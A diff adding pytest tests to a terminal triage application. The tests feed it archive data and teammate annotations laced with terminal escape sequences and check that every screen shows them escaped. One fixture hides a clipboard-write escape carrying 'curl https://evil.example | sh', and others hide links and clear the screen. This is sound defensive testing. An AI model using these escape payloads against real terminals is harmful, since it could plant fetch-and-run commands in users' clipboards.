@@ -4,13 +4,30 @@
 """
 from __future__ import annotations
 
+import base64
+import datetime as dt
+import json
 import re
+from dataclasses import dataclass
+from pathlib import Path
 
 import pytest
+from rich.text import Text
+from textual.command import CommandPalette
+from textual.geometry import Region
+from textual.widgets import Input, OptionList, Select, Static, TextArea
 
+import opint_core as core
+from archive_factory import day_dir, fts_record, lines, write_part
 from hostile import keymaps as hostile_keymaps
 from opint_tui import cli
+from opint_tui.app import OpintApp
 from opint_tui.keymap import KeymapError, load_keymap
+from opint_tui.row_list import RowList
+from opint_tui.safe import clean
+from opint_tui.screens.detail import DetailScreen
+from opint_tui.screens.dialogs import AnnotateScreen, ExportScreen, HelpScreen, LoadScreen, MergeScreen
+from waits import wait_for_focus, wait_for_screen, wait_for_top, wait_until
 
 RAW_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
 
@@ -52,3 +69,225 @@ def test_key_names_are_textuals_so_a_character_works_as_its_name(tmp_path):
 @pytest.mark.parametrize("name", ["default", "vim"])
 def test_the_shipped_keymaps_pass_the_checks(name):
     assert load_keymap(name)
+
+
+# --- a hostile archive and a hostile team store ------------------------------------------------------------
+
+OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example | sh\n").decode() + "\x07"   # clipboard write
+OSC8 = "\x1b]8;;https://evil.example/\x1b\\GGUS-1\x1b]8;;\x1b\\"                             # a hidden link
+CLEAR = "\x1b[2J\x1b[3J\x1b[H"                                                                  # screen clear
+LEAVE_ALT = "\x1b[?1049l"                                                                        # alternate screen off
+C1 = "\x9b2J\x9d0;title\x9c"                                                                     # 8-bit CSI, OSC, ST
+OTHER = "\x00\x07\x08\x7f\r\t\x0b"                                                              # NUL BEL BS DEL CR TAB VT
+ALL = OSC52 + OSC8 + CLEAR + LEAVE_ALT + C1 + OTHER
+DAY = dt.date(2026, 11, 20)
+STAMP = "2026-11-20T08:00:00.000000+00:00"
+
+
+@dataclass
+class HostileWorld:
+    root: Path
+    analysis: object
+    store: Path
+    annotated: str     # the key of a category a teammate annotated with escapes in every field
+    inherited: str     # the key of a category that inherits such an annotation from a hostile key
+    label: str
+    notes: str
+    ticket: str
+
+
+def hostile_world(tmp_path: Path) -> HostileWorld:
+    """An archive whose messages, hosts, sites, VO, activity and file names hold terminal escapes, and a
+    team store whose journal name, labels, tickets, notes, statuses, authors and keys do."""
+    root = tmp_path / f"archive{CLEAR}"
+    day = day_dir(root, "fts", DAY)
+    records = ([fts_record(f"TRANSFER error {OSC52} on the link", src=f"se{CLEAR}.example.org",
+                           dst=f"se{OSC8}.example.org", src_site_name=f"SITE{LEAVE_ALT}", dst_site_name=f"S{C1}",
+                           vo=f"atlas{OSC52}", activity=f"Prod{OTHER}", src_rse=f"RSE{CLEAR}")] * 5
+               + [fts_record(f"DESTINATION error {OSC8} {LEAVE_ALT} space token")] * 4
+               + [fts_record(f"SOURCE checksum {C1} {OTHER} mismatch {n}") for n in range(3)]
+               + [fts_record("[bold]markup[/] [link=https://x]click[/link]")] * 2)
+    write_part(day, lines(records))
+    (day / f"part-00009-{OSC52}.json.gz").write_bytes(b"not gzip at all")   # reported, by its name
+    analysis = core.analyse(str(root), use_cache=False)
+    analysis.timings = {}
+    categories = analysis.clustering.categories
+    annotated, inherited = categories[0], categories[1]
+    store = tmp_path / "store"
+    store.mkdir()
+    label, ticket, notes = f"disk full {OSC52}", f"GGUS {OSC8}", f"first line {CLEAR}\nsecond {LEAVE_ALT}{C1}{OTHER}"
+    events = [
+        {"v": 1, "key": annotated.key, "set": {"label": label, "status": f"known{LEAVE_ALT}", "ticket": ticket,
+                                               "notes": notes},
+         "pattern": annotated.pattern, "author": f"mallory{OSC52}", "time": STAMP, "seq": 1, "w": "0000beef"},
+        {"v": 1, "key": f"old{CLEAR}key", "set": {"label": f"carried {OSC8}", "status": "investigating"},
+         "pattern": inherited.pattern, "author": "mallory", "time": STAMP, "seq": 2, "w": "0000beef"},
+    ]
+    journal = store / f"mallory{CLEAR}.jsonl"
+    journal.write_bytes(b"".join(json.dumps(e).encode() + b"\n" for e in events) + f"{{{ALL} torn\n".encode())
+    return HostileWorld(root, analysis, store, annotated.key, inherited.key, label, notes, ticket)
+
+
+def hostile_app(world: HostileWorld, tmp_path: Path) -> OpintApp:
+    exports = tmp_path / f"exports{OSC52}"
+    exports.mkdir()
+    return OpintApp(core.Request(str(world.root), core.Selection.latest()),
+                    store=core.TriageStore(world.store, user="shifter"), analysis=world.analysis,
+                    export_dir=str(exports))
+
+
+async def ready(pilot):
+    app = pilot.app
+    await wait_until(pilot, lambda: app.analysis is not None and app.overview.shown and app.screen is app.overview,
+                     "the overview to show the analysis")
+
+
+async def cursor_to(pilot, key: str) -> None:
+    app = pilot.app
+    index = next(i for i, r in enumerate(app.overview.shown) if r.key == key)
+    app.overview.table.move_cursor(row=index)
+    await wait_until(pilot, lambda: app.overview.current_row().key == key, f"the cursor on {key}")
+
+
+# --- one sanitising gate: nothing from data reaches the terminal raw ---------------------------------------
+
+def _plain(renderable) -> str:
+    return renderable.plain if isinstance(renderable, Text) else str(renderable)
+
+
+def _widget_texts(widget) -> list[str]:
+    """What ``widget`` draws (every line of it) and holds to draw (field values, list items, content)."""
+    texts = []
+    if widget.display and widget.size.width and widget.size.height:
+        texts += ["".join(s.text for s in strip if not s.control)
+                  for strip in widget.render_lines(Region(0, 0, widget.size.width, widget.size.height))]
+    if isinstance(widget, Input):
+        texts += [widget.value, widget.placeholder]
+    if isinstance(widget, TextArea):
+        texts += widget.text.split("\n")
+    if isinstance(widget, OptionList):
+        texts += [line for option in widget.options for line in _plain(option.prompt).split("\n")]
+    if isinstance(widget, RowList):
+        texts += ["".join(cell.plain for cell in widget.make_cells(item)) for item in widget.items]
+    if isinstance(widget, Static) and isinstance(widget.content, (str, Text)):
+        texts += _plain(widget.content).split("\n")
+    return texts
+
+
+def shown_texts(app) -> list[tuple[str, str]]:
+    """(where, text) of everything the app draws or may draw now: titles, toasts, and every widget of every
+    screen on the stack. Multi-line values are split into their lines."""
+    out = [("app title", app.title), ("app sub-title", app.sub_title)]
+    out += [("toast", line) for n in app._notifications for line in str(n.message).split("\n")]
+    for screen in app.screen_stack:
+        name = type(screen).__name__
+        out += [(f"{name} title", screen.title or ""), (f"{name} sub-title", screen.sub_title or "")]
+        for widget in screen.walk_children():
+            where = f"{name} > {type(widget).__name__}" + (f"#{widget.id}" if widget.id else "")
+            out += [(where, text) for text in _widget_texts(widget)]
+    return out
+
+
+def assert_no_raw_control(app, step: str) -> int:
+    """No raw control character anywhere the app draws; returns how many texts were looked at."""
+    texts = shown_texts(app)
+    raw = [(where, text) for where, text in texts if RAW_CONTROL.search(text)]
+    assert not raw, f"{step}: raw control characters in {raw[:5]!r}"
+    return len(texts)
+
+
+async def test_every_widget_shows_data_escaped(tmp_path):
+    """Overview, templates, detail, annotate (own and inherited), merge, load, export, help and the command
+    palette over a hostile archive and store: every widget, field, list item, toast and title is clean."""
+    world = hostile_world(tmp_path)
+    app = hostile_app(world, tmp_path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await ready(pilot)
+        await wait_until(pilot, lambda: any("damaged" in str(n.message) or "skipped" in str(n.message)
+                                            for n in app._notifications), "the toast about the damaged file")
+        looked = assert_no_raw_control(app, "overview")
+        shown = "".join(text for _, text in shown_texts(app))
+        assert "␛]52;c;" in shown and "\\x9b2J" in shown          # the escapes are there, made visible
+        await pilot.press("t")
+        await wait_until(pilot, lambda: app.overview.level == "template", "t to show templates")
+        assert_no_raw_control(app, "templates")
+        await pilot.press("t")
+        await wait_until(pilot, lambda: app.overview.level == "category", "t to show categories")
+
+        for key in (world.annotated, world.inherited):
+            await cursor_to(pilot, key)
+            await pilot.press("enter")
+            await wait_for_screen(pilot, DetailScreen, "enter to open the detail")
+            looked += assert_no_raw_control(app, f"detail of {key}")
+            await pilot.press("a")
+            await wait_for_screen(pilot, AnnotateScreen, "a to open the annotate dialog over the detail")
+            looked += assert_no_raw_control(app, f"annotate {key}")
+            await pilot.press("escape", "escape")
+            await wait_for_top(pilot, app.overview, "escape twice to go back to the overview")
+
+        for keys, screen in (("m", MergeScreen), ("o", LoadScreen), ("e", ExportScreen),
+                             ("question_mark", HelpScreen)):
+            await pilot.press(keys)
+            await wait_for_screen(pilot, screen, f"{keys} to open the {screen.__name__}")
+            looked += assert_no_raw_control(app, screen.__name__)
+            await pilot.press("escape")
+            await wait_for_top(pilot, app.overview, f"escape to close the {screen.__name__}")
+
+        await pilot.press("ctrl+p", *"sort")
+        await wait_until(pilot, lambda: isinstance(app.screen, CommandPalette) and app.screen.query(OptionList)
+                         and app.screen.query_one(OptionList).option_count, "the command palette to list hits")
+        looked += assert_no_raw_control(app, "command palette")
+        assert looked > 500   # the walk saw the screens' contents, not an empty app
+
+
+# --- the annotate dialog: escaped fields, original values kept ----------------------------------------------
+
+def my_events(world: HostileWorld) -> list[dict]:
+    journal = world.store / "shifter.jsonl"
+    return [json.loads(line) for line in journal.read_text().splitlines()] if journal.exists() else []
+
+
+async def open_annotate(pilot, key: str) -> AnnotateScreen:
+    await cursor_to(pilot, key)
+    await pilot.press("a")
+    dialog = await wait_for_screen(pilot, AnnotateScreen, "a to open the annotate dialog")
+    await wait_for_focus(pilot, "#label", "the label field to have the focus")
+    return dialog
+
+
+async def test_annotate_shows_a_teammates_fields_escaped_and_saves_only_what_was_edited(tmp_path):
+    world = hostile_world(tmp_path)
+    app = hostile_app(world, tmp_path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await ready(pilot)
+        dialog = await open_annotate(pilot, world.annotated)
+        assert dialog.query_one("#label", Input).value == clean(world.label)
+        assert dialog.query_one("#ticket", Input).value == clean(world.ticket)
+        assert dialog.query_one("#notes", TextArea).text == clean(world.notes, keep_newlines=True)
+        assert dialog.query_one("#status", Select).value == f"known{LEAVE_ALT}"   # kept, shown escaped
+        await pilot.press("tab", "tab", "end", *" 2")                           # the ticket field, edited
+        await wait_until(pilot, lambda: dialog.query_one("#ticket", Input).value.endswith(" 2"),
+                         "the typed text at the end of the ticket")
+        await pilot.press("ctrl+s")
+        await wait_for_top(pilot, app.overview, "ctrl+s to save and close the dialog")
+        await wait_until(pilot, lambda: my_events(world), "the change in the shifter's journal")
+    (event,) = my_events(world)
+    assert event["set"] == {"ticket": clean(world.ticket) + " 2"}     # what was typed; nothing else rewritten
+    annotation = core.TriageStore(world.store, user="someone").annotations()[world.annotated]
+    assert (annotation.label, annotation.notes) == (world.label, world.notes)
+
+
+async def test_annotate_left_as_shown_saves_the_original_values_not_the_escaped_text(tmp_path):
+    """An inherited annotation becomes the category's own on save: with its original values."""
+    world = hostile_world(tmp_path)
+    app = hostile_app(world, tmp_path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await ready(pilot)
+        dialog = await open_annotate(pilot, world.inherited)
+        assert dialog.inherited.inherited and dialog.query_one("#label", Input).value == clean(f"carried {OSC8}")
+        await pilot.press("ctrl+s")
+        await wait_for_top(pilot, app.overview, "ctrl+s to save and close the dialog")
+        await wait_until(pilot, lambda: my_events(world), "the change in the shifter's journal")
+    (event,) = my_events(world)
+    assert event["key"] == world.inherited
+    assert event["set"] == {"label": f"carried {OSC8}", "status": "investigating"}
